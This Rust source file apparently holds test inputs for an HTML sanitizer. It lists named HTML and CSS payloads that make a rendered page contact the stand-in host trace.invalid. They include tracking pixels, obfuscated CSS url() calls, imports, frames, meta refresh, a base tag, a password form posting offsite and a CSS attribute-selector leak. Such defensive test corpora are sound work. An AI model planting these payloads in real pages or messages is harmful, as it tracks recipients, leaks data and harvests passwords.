//! Attacks that want an address asked for: trackers, refreshes, forms.

use super::Attempt;

pub(super) const ATTEMPTS: &[Attempt] = &[
    Attempt("pixel", "<img src=\"https://trace.invalid/MARK.gif\" width=1 height=1>"),
    Attempt("pixel-http", "<img src=\"http://trace.invalid/MARK.gif\">"),
    Attempt(
        "pixel-no-scheme",
        "<img src=\"//trace.invalid/MARK.gif\"><img src=\"\\\\trace.invalid\\MARK.gif\">",
    ),
    Attempt(
        "srcset",
        "<img srcset=\"https://trace.invalid/MARK-1.png 1x, https://trace.invalid/MARK-2.png 2x\" alt=\"\">",
    ),
    Attempt(
        "picture-source",
        "<picture><source srcset=\"https://trace.invalid/MARK.webp\"><img alt=\"\"></picture>",
    ),
    Attempt(
        "background-attribute",
        "<table background=\"https://trace.invalid/MARK.png\"><tr><td>tableau</td></tr></table>",
    ),
    Attempt("style-url", "<p style=\"background:url('https://trace.invalid/MARK.png')\">fond</p>"),
    Attempt("style-url-escaped", "<p style=\"background:u\\72l(https://trace.invalid/MARK.png)\">fond</p>"),
    Attempt(
        "style-url-comment",
        "<p style=\"background:/**/url(/**/https://trace.invalid/MARK.png)\">fond</p>",
    ),
    Attempt(
        "style-image-set",
        "<p style=\"background-image:image-set('https://trace.invalid/MARK.png' 1x)\">fond</p>",
    ),
    Attempt(
        "style-cross-fade",
        "<p style=\"background-image:-webkit-cross-fade(url(https://trace.invalid/MARK.png),url(x),50%)\">fond</p>",
    ),
    Attempt(
        "style-variable",
        "<p style=\"--x:url(https://trace.invalid/MARK.png);list-style-image:var(--x);cursor:url(https://trace.invalid/MARK.cur),auto\">fond</p>",
    ),
    Attempt(
        "style-expression",
        "<p style=\"width:expression(alert('MARK'));behavior:url(#default#MARK);-moz-binding:url(https://trace.invalid/MARK.xml)\">fond</p>",
    ),
    Attempt(
        "style-import",
        "<style>@import 'https://trace.invalid/MARK.css'; @import url(https://trace.invalid/MARK-2.css);</style>",
    ),
    Attempt(
        "style-font",
        "<style>@font-face{font-family:m;src:url(https://trace.invalid/MARK.woff2)}p{font-family:m}</style><p>police</p>",
    ),
    Attempt(
        "style-attribute-leak",
        "<style>a[href^='https']{background:url(https://trace.invalid/MARK)}</style><a href=\"https://intranet.hautes-terres.example/\">lien</a>",
    ),
    Attempt(
        "link-stylesheet",
        "<link rel=stylesheet href=\"https://trace.invalid/MARK.css\"><link rel=preload as=image href=\"https://trace.invalid/MARK.png\">",
    ),
    Attempt(
        "link-prefetch",
        "<link rel=\"dns-prefetch\" href=\"//MARK.trace.invalid\"><link rel=prerender href=\"https://trace.invalid/MARK\">",
    ),
    Attempt(
        "iframe-remote",
        "<iframe src=\"https://trace.invalid/MARK\"></iframe><frameset><frame src=\"https://trace.invalid/MARK\"></frameset>",
    ),
    Attempt(
        "object-remote",
        "<object data=\"https://trace.invalid/MARK.swf\"></object><embed src=\"https://trace.invalid/MARK.pdf\"><applet code=MARK></applet>",
    ),
    Attempt(
        "media-remote",
        "<video src=\"https://trace.invalid/MARK.mp4\" poster=\"https://trace.invalid/MARK.png\" autoplay></video><audio src=\"https://trace.invalid/MARK.ogg\" autoplay></audio>",
    ),
    Attempt("input-image", "<input type=image src=\"https://trace.invalid/MARK.png\">"),
    Attempt(
        "svg-image",
        "<svg><image href=\"https://trace.invalid/MARK.png\"/><feImage xlink:href=\"https://trace.invalid/MARK.png\"/></svg>",
    ),
    Attempt(
        "meta-refresh",
        "<html><head><meta http-equiv=refresh content=\"0; url=https://trace.invalid/MARK\"></head><body><p>VISIBLE</p></body></html>",
    ),
    Attempt(
        "base",
        "<html><head><base href=\"https://trace.invalid/MARK/\" target=_top></head><body><p>VISIBLE</p><img src=\"a.png\"><a href=\"b\">suite</a></body></html>",
    ),
    Attempt(
        "form-remote",
        "<form action=\"https://trace.invalid/MARK\" method=post><input name=motdepasse type=password><input type=submit value=\"Se connecter\"></form>",
    ),
    Attempt(
        "ping",
        "<a href=\"https://le-courrier-des-terres.example/\" ping=\"https://trace.invalid/MARK\">article</a>",
    ),
    Attempt(
        "attribution",
        "<img src=\"cid:absent\" attributionsrc=\"https://trace.invalid/MARK\" longdesc=\"https://trace.invalid/MARK\" dynsrc=\"https://trace.invalid/MARK\" lowsrc=\"https://trace.invalid/MARK\">",
    ),
];
